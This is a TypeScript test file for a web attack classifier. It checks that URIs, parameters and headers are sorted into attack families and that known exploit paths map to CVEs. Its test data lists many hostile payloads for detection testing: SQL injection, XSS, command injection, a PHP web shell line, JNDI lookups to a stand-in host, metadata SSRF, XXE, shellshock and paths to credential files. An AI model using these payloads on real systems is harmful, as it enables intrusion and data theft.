import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { openClassifier } from '../../src/detect/web/classify.ts';
import { decodeParameter } from '../../src/detect/web/decode.ts';
import { exploitIn } from '../../src/detect/web/known-exploits.ts';
import type { WebFamily } from '../../src/detect/web/signature.ts';
import { describeWithData } from '../support/data.ts';

const classify = openClassifier();
const familyOf = (uri: string): WebFamily | null => classify(uri, 'Mozilla/5.0', null)?.family ?? null;
const asParameter = (value: string): string => `/page?q=${encodeURIComponent(value)}`;

describe('the families of a parameter', () => {
  it.each<[WebFamily, string]>([
    ['sqli', "7' or '3'='3"], ['sqli', '7) union all select null,null,null--'], ['sqli', '9 and 4=(select count(*) from users)'],
    ['sqli', "x';waitfor delay '0:0:9'--"], ['sqli', '7/**/union/**/select/**/pass/**/from/**/users'], ['sqli', '7 order by 9#'],
    ['xss', '<script>alert(7)</script>'], ['xss', '"><img src=x onerror=alert(7)>'], ['xss', 'javascript:alert(7)'],
    ['xss', '<svg/onload=confirm(7)>'], ['xss', "' onmouseover='fetch(1)"],
    ['path-traversal', '../../../../var/www/secret'], ['path-traversal', '..\\..\\..\\windows\\win.ini'],
    ['lfi', '/etc/shadow'], ['lfi', 'php://filter/convert.base64-encode/resource=index'],
    ['cmdi', '8.8.8.8;id'], ['cmdi', '| cat /etc/hosts'], ['cmdi', '$(whoami)'], ['cmdi', '`uname -a`'], ['cmdi', '&& ping -n 9 127.0.0.1'],
    ['php-injection', '<?php system($_GET["c"]); ?>'], ['php-injection', 'base64_decode("aWQ=")'],
    ['ssti', '{{7*7}}'], ['jndi-injection', '${jndi:ldap://192.0.2.9/a}'], ['jndi-injection', '${${::-j}ndi:rmi://192.0.2.9/a}'],
    ['ssrf', 'http://169.254.169.254/latest/meta-data/'], ['xxe', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]>'],
    ['header-injection', 'x\r\nSet-Cookie: a=b'], ['code-injection', 'require("child_process").exec("id")'],
  ])('%s: %s', (family, value) => {
    expect(familyOf(asParameter(value))).toBe(family);
  });

  it.each<[WebFamily, string]>([
    ['deserialization', 'rO0ABXNyABFqYXZhLnV0aWwu'], ['deserialization', 'O:8:"Exploit1":1:{s:1:"a";i:1;}'],
    ['deserialization', 'AAEAAAD/////AQAAAAAAAAAMAgAAAA'], ['deserialization', '_$$ND_FUNC$$_function(){}'],
    ['deserialization', '!!python/object/apply:os.system ["id"]'], ['deserialization', '{"@type":"com.sun.rowset.Jdbc"}'],
    ['shellshock', '() { :; }; echo x'], ['sqli', '7 union select name from users'], ['cmdi', 'x; find / -name y'],
    ['sqli', 'x\'; drop table users'], ['xss', 'javascript: alert(1)'], ['php-injection', 'eval($_GET[x])'],
  ])('%s, by its grammar: %s', (family, value) => {
    expect(familyOf(asParameter(value))).toBe(family);
  });

  it.each([
    'select a gift from the union', 'sleep(8 hours)', 'union select committee', 'drop table lamp', 'delete from cart', 'create table reservation',
    'benchmark(ing) tests', 'system(s) design', 'file(s) attached', 'exec(utive) chair', 'confirm(ed) booking', '50% off & more', 'cat food; dog food',
    'date night | movie', 'javascript: the good parts', '"quoted" and "more"', '(select one)', 'C# {get; set;}', '100$ (cash)', '${campaign}', 'a<b',
    'window.open sign', 'bin/store', "rock 'n' roll", 'Smith; Mary', 'AT&T', "O'Brien and sons", 'tes(){}t',
  ])('is silent on prose: %s', (text) => {
    expect(familyOf(asParameter(text))).toBeNull();
  });

  it.each<[string, string]>([
    ['encoded once', '/p?f=%2e%2e%2f%2e%2e%2fetc%2fpasswd'], ['encoded twice', '/p?f=%252e%252e%252f%252e%252e%252fetc'],
    ['overlong UTF-8', '/p?f=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc'], ['%u form', '/p?f=%u002e%u002e%u002f%u002e%u002e%u002f'],
    ['in the path', '/cgi-bin/.%2e/.%2e/.%2e/bin/sh'], ['an entity', '/p?f=%26%2346;%26%2346;%26%2347;%26%2346;%26%2346;%26%2347;'],
    ['a NUL inside', '/p?f=..%00/..%00/etc/passwd'], ['upper case', '/P?F=..%5C..%5CWINDOWS%5CWIN.INI'],
  ])('sees through %s', (_what, uri) => {
    expect(['path-traversal', 'lfi', 'cmdi']).toContain(familyOf(uri));
  });

  it('looks at every parameter and at their names', () => {
    expect(familyOf('/p?a=1&b=2&c=%27%20or%201=1--')).toBe('sqli');
    expect(familyOf('/p?user[$ne]=x')).toBe('nosqli');
    expect(familyOf('/p?__proto__[admin]=1')).toBe('prototype-pollution');
  });
});

describe('paths that tell by themselves', () => {
  it.each<[WebFamily, string]>([
    ['sensitive-file', '/.env'], ['sensitive-file', '/app/.git/config'], ['sensitive-file', '/wp-config.php.bak'],
    ['sensitive-file', '/backup.sql.gz'], ['sensitive-file', '/home/.ssh/id_rsa'], ['sensitive-file', '/db-2024.zip'],
    ['web-shell', '/images/c99.php'], ['web-shell', '/x/mini_shell.php'],
    ['known-exploit', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'], ['known-exploit', '/HNAP1/'],
  ])('%s: %s', (family, path) => {
    expect(familyOf(path)).toBe(family);
  });
});

describe('known flaws', () => {
  it.each<[string, string, string | null]>([
    ['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'PHPUnit', 'CVE-2017-9841'],
    ['/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession', 'FortiOS', 'CVE-2018-13379'],
    ['/setup/setupadministrator.action', 'Confluence', 'CVE-2023-22515'], ['/%2f%2ftmui//login.jsp/..;/tmui/x', 'F5 BIG-IP', 'CVE-2020-5902'],
    ['/hax?jsp=/app/rest/users;.jsp', 'TeamCity', 'CVE-2024-27198'], ['/cgi-bin/luci/;stok=/locale', 'routers with LuCI', 'CVE-2023-1389'],
    ['/zm/index.php?view=request&request=log&task=create&level=ERR', 'ZoneMinder', 'CVE-2023-26035'], ['/ecp/y.js', 'Exchange ProxyLogon', 'CVE-2021-26855'],
    ['/manager/html', 'Apache Tomcat manager', null],
  ])('%s: %s', (uri, product, cve) => {
    expect([exploitIn(uri), familyOf(uri) !== null]).toEqual([{ product, cve }, true]);
  });

  it.each([
    '/users/7', '/api/v2/cart', '/remote/login', '/owa/auth/logon.aspx', '/geoserver/wms?layers=a', '/wp-json/wp/v2/posts', '/console/help',
    '/index.php?view=request', '/actuator/health', '/plugins/list', '/account/register?next=/', '/public/plugins.html',
  ])('has nothing against %s', (uri) => {
    expect([exploitIn(uri), familyOf(uri)]).toEqual([null, null]);
  });
});

describe('ordinary requests', () => {
  it.each([
    '/', '/index.php', '/.well-known/acme-challenge/x9', '/wp-content/themes/a/style.css?ver=6.1', '/img/logo.min.svg',
    '/search?q=cats+and+dogs', '/search?q=O%27Neill%20%26%20co.', '/a?url=https%3A%2F%2Fshop.example%2Fb%3Fc%3D1',
    '/a?mail=jo%40mail.example', '/a?d=2026-03-03T10%3A00%3A00%2B01%3A00', '/a?filter[color]=red&filter[size]=m', '/a?price=%3C100',
    '/a?q=select+the+best+from+our+list', '/a?q=union+of+students', '/a?q=drop+me+a+line', '/a?q=the+cat+sat%3B+then+it+left',
    '/api/items(42)?expand=owner', '/a?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln', '/a?q=%E6%9D%B1%E4%BA%AC', '/a?q=50%25+off',
    '/a?name=Jos%C3%A9+Garc%C3%ADa+L%C3%B3pez', '/a?text=%22quoted%22+words', '/a?x=1&y=-2.5&z=3e8', '/downloads/report.zip',
    '/static/app.9f8e7d.js', '/a?ids=1,2,3&sort=-date', '/a?q=what+is+%3F', '/shop/c%C3%B4te-d%27azur',
  ])('%s', (uri) => {
    expect(familyOf(uri)).toBeNull();
  });

  it('takes what browsers, crawlers and monitors send in their headers as it is', () => {
    const agents = [
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36',
      'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148',
      'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', 'kube-probe/1.29', 'Wget/1.21.3', 'curl/8.5.0',
      'Dalvik/2.1.0 (Linux; U; Android 14; SM-A546B)', 'okhttp/4.12.0', 'python-requests/2.31.0', 'Go-http-client/2.0',
    ];
    const referers = ['https://www.google.com/', 'https://shop.example/a?b=c&d=%20e', 'android-app://com.example/', 'http://shop.example/c++/'];
    const found = agents.flatMap((agent) => referers.map((referer) => classify('/', agent, referer)));
    expect(found.filter((one) => one !== null)).toEqual([]);
  });
});

describe('headers', () => {
  it('names the field that carries the attack', () => {
    expect(classify('/', '() { :; }; /bin/cat /etc/hosts', null)).toEqual({ family: 'shellshock', field: 'agent' });
    expect(classify('/', 'sqlmap/1.8', null)).toEqual({ family: 'scanner', field: 'agent' });
    expect(classify('/', null, '${jndi:dns://192.0.2.9/x}')).toEqual({ family: 'jndi-injection', field: 'referer' });
  });
});

describe('hostile sizes', () => {
  const limit = 2_000;
  it.each(['a', ' ', "'", '(', 'or ', 'select ', '../', '<', '<a ', '%25', '${', '{{', '`', '|', '1,', '/*', 'onload', '&', '=', '\\'])(
    'a megabyte of %j is looked at in linear time', (unit) => {
      const started = performance.now();
      const text = unit.repeat(Math.ceil(1_000_000 / unit.length));
      openClassifier()(`/a?b=${text}`, text, text);
      openClassifier()(`/${text}`, null, null);
      expect(performance.now() - started).toBeLessThan(limit);
    },
  );

  it('stays the same however often it is asked', () => {
    const uris = Array.from({ length: 20_000 }, (_, index) => `/p${index}?q=${index % 2 === 0 ? 'x' : "'%20or%201=1--"}`);
    const one = openClassifier();
    const answers = uris.map((uri) => one(uri, `agent ${uri}`, null)?.family ?? null);
    expect(answers.every((family, index) => family === (index % 2 === 0 ? null : 'sqli'))).toBe(true);
  });
});

describe('decoding', () => {
  it('takes every encoding off and ends', () => {
    expect(decodeParameter('%253Cscript%253E+x')).toBe('<script> x');
    expect(decodeParameter('%uff1cscript%uff1e')).toBe('<script>');
    expect(decodeParameter('&lt;a&#x20;b&#62;')).toBe('<a b>');
    expect(decodeParameter('%')).toBe('%');
    expect(decodeParameter('%zz%2')).toBe('%zz%2');
    expect(decodeParameter('%25'.repeat(50))).toHaveLength(50);
  });
});

interface Row { readonly line: string; readonly label: string; readonly family: string; readonly paranoia_level: number | null; readonly fp_test?: boolean }

describeWithData('public request tests', (data) => {
  const read = (name: string): string => readFileSync(join(data, 'web-attacks', name), 'utf8');

  it('finds four of five attacks and takes one harmless request in fifty for one, at most', () => {
    const rows = read('crs_access_lines.jsonl').trim().split('\n').map((line) => JSON.parse(line) as Row);
    const flagged = ({ line }: Row): boolean => {
      const fields = /"(\S+) (.*?)(?: HTTP\/[\d.]+)?(?<!\\)" \d{3} \S+ "(.*?)(?<!\\)" "(.*?)(?<!\\)"/.exec(line);
      return fields !== null && classify(fields[2] ?? '', fields[4] ?? null, fields[3] ?? null) !== null;
    };
    const attacks = rows.filter(({ label, paranoia_level: level }) => label === 'attack' && level === 1);
    const harmless = rows.filter(({ fp_test: test }) => test === true);
    expect(attacks.filter(flagged).length / attacks.length).toBeGreaterThanOrEqual(0.8);
    expect(harmless.filter(flagged).length / harmless.length).toBeLessThanOrEqual(0.02);
  });

  it('finds nine of ten values of each family and takes one ordinary value in two hundred for one, at most', () => {
    const counts = new Map<string, [number, number]>();
    for (const [value, , family] of csvRows(read('http_params_train.csv')).slice(1)) {
      if (value === undefined || family === undefined) continue;
      const [seen, found] = counts.get(family) ?? [0, 0];
      counts.set(family, [seen + 1, found + (familyOf(asParameter(value)) === null ? 0 : 1)]);
    }
    const share = (family: string): number => { const [seen, found] = counts.get(family) ?? [1, 0]; return found / seen; };
    expect(share('norm')).toBeLessThanOrEqual(0.005);
    for (const family of ['sqli', 'xss', 'path-traversal', 'cmdi']) expect([family, share(family) >= 0.9]).toEqual([family, true]);
  });
});

function csvRows(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^,\n\r"]*))(,|\r?\n|$)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end !== ',') rows.push([]);
  }
  return rows;
}
